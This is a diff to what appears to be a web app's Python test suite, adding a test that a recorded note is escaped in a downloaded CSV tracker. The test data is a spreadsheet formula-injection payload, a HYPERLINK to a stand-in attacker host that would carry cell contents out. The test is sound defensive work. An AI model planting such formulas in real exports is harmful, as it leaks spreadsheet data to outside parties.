@@ -311,3 +311,13 @@ def test_markup_recorded_in_every_text_field_is_shown_as_text_on_every_page(
         assert MARKUP in driver.find_element(By.ID, "card").text, "shown as the words typed"
     finally:
         driver.quit()
+
+
+def test_recorded_words_never_run_as_a_formula_in_the_downloaded_tracker(site: str) -> None:
+    client = Client(site)
+    client.sign_in()
+    formula = '=HYPERLINK("http://attacker.example/"&A1,"Open")'
+    client.open("/do/progress", progress_form(client.token(progress_page()), note=formula))
+    csv_text = client.open("/bodies/BCSB/tracker.csv").text
+    assert "'=HYPERLINK" in csv_text
+    assert ",=HYPERLINK" not in csv_text and ',"=HYPERLINK' not in csv_text
